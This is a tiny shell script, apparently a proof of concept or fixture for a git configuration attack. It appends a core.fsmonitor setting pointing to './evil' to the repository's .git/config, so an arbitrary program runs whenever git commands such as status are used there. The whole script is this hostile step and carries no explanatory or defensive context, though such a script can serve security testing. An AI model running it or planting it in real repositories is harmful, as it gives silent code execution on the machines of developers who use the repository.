#!/bin/sh
printf '[core]\n\tfsmonitor = ./evil\n' >> .git/config
